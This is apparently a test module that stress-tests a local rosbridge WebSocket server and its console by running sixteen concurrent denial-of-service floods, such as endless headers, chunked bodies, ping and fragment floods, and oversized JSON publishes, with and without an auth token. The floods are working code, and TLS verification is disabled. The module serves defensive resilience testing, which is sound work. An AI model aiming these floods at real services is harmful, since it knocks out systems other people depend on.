"""Eight strangers and eight clients with the token, each with whatever is dearest to be read.

Each of them sends one kind of flood for a second or so, as fast as it is taken, then another one:
``python -m tests.attacks.everything PORT CONSOLE_PORT TOKEN [--seconds 10] [--tls] [--seed 1]``.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import random
import ssl
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

__all__ = ["CLIENTS", "STRANGERS", "Target"]

EACH = 8
_KEY = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
_UPGRADE = f"Connection: Upgrade\r\nUpgrade: websocket\r\n{_KEY}"
_CHUNKS = b"1\r\na\r\n" * 10_000


@dataclass(frozen=True, slots=True)
class Target:
    """A station on this machine.

    Attributes:
        port: Of rosbridge.
        console: Port of the console.
        token: What clients know.
        context: For TLS, None without it.
    """

    port: int
    console: int
    token: str
    context: ssl.SSLContext | None = None

    async def open(
        self, port: int | None = None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection, of rosbridge by default."""
        return await asyncio.open_connection("127.0.0.1", port or self.port, ssl=self.context)

    def head(self, line: str, fields: str = "", *, token: str = "", host: str = "") -> bytes:
        """The head of a request."""
        host = host or f"127.0.0.1:{self.port}"
        bearer = f"Authorization: Bearer {token}\r\n" if token else ""
        return f"{line} HTTP/1.1\r\nHost: {host}\r\n{bearer}{fields}\r\n".encode()


def _frame(opcode: int, data: bytes = b"", *, is_last: bool = True) -> bytes:
    """A masked frame; the mask is zeros."""
    size = len(data)
    length = bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big")
    return bytes([0x80 * is_last | opcode]) + length + bytes(4) + data


_JSON = json.dumps({"op": "publish", "topic": "/rosout", "msg": [[0]] * 10_000})[:65_000]
_FRAMES = {
    "empty": (_frame(1, b"{", is_last=False), _frame(0, is_last=False) * 10_000),
    "one_byte": (_frame(1, b"{", is_last=False), _frame(0, b"x", is_last=False) * 10_000),
    "pings": (b"", _frame(9) * 10_000),
    "long_pings": (b"", _frame(9, bytes(125)) * 500),
    "json": (b"", _frame(1, _JSON.encode())),
    "small_json": (b"", _frame(1, b"{}") * 8_000),
}


async def _flood(target: Target, head: bytes, first: bytes, more: bytes, port: int = 0) -> None:
    reader, writer = await target.open(port)
    drained = asyncio.create_task(_drain(reader))
    try:
        writer.write(head)
        await asyncio.sleep(0.05)  # a WebSocket has to be open first
        writer.write(first)
        while not drained.done():
            writer.write(more)
            await writer.drain()
    finally:
        drained.cancel()
        writer.transport.abort()


async def _drain(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def _chunks(target: Target, token: str) -> None:
    host = "" if token else "evil.example"
    head = target.head("POST /", "Transfer-Encoding: chunked\r\n", token=token, host=host)
    await _flood(target, head, b"", _CHUNKS)


async def _heads(target: Target, token: str) -> None:
    """A head that never ends."""
    await _flood(target, target.head("GET /", token=token)[:-2], b"", b"a: b\r\n" * 5_000)


async def _pages(target: Target, token: str) -> None:
    host = f"127.0.0.1:{target.console}"
    head = target.head("GET /", "Connection: close\r\n", token=token, host=host)
    await _flood(target, head, b"", b"", target.console)


async def _requests(target: Target, token: str) -> None:
    """Pipelined."""
    await _flood(target, b"", b"", target.head("GET /health", token=token) * 200)


async def _connections(target: Target, token: str) -> None:
    """Handshakes, with TLS."""
    _, writer = await target.open()
    writer.write(target.head("GET /", _UPGRADE, token=token))
    writer.transport.abort()


def _frames(name: str) -> Callable[[Target, str], Awaitable[None]]:
    async def flood(target: Target, token: str) -> None:
        await _flood(target, target.head("GET /", _UPGRADE, token=token), *_FRAMES[name])

    return flood


STRANGERS = {
    "chunks": _chunks,
    "heads": _heads,
    "pages": _pages,
    "requests": _requests,
    "connections": _connections,
}
"""What can be done without a token."""

CLIENTS = STRANGERS | {name: _frames(name) for name in _FRAMES}
"""What can be done with it."""


async def attack(target: Target, seconds: float, seed: int, only: str = "") -> None:
    """Sixteen at once, for at most a minute."""

    async def one(number: int) -> None:
        drawn = random.Random(f"{seed} {number}")
        token = target.token if number >= EACH else ""
        kinds = CLIENTS if token else STRANGERS
        names = [name for name in kinds if not only or name == only] or list(kinds)
        while True:
            name = drawn.choice(names)
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(0.5 + drawn.random()):
                    while True:
                        with contextlib.suppress(OSError):
                            await kinds[name](target, token)
                        await asyncio.sleep(0.001)

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(min(seconds, 60.0)):
            await asyncio.gather(*(one(number) for number in range(2 * EACH)))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument("console", type=int)
    parser.add_argument("token")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--only", default="", help=f"of {', '.join(CLIENTS)}")
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    context = None
    if options.tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE  # whoever attacks does not mind
    target = Target(options.port, options.console, options.token, context)
    asyncio.run(attack(target, options.seconds, options.seed, options.only))


if __name__ == "__main__":
    main()
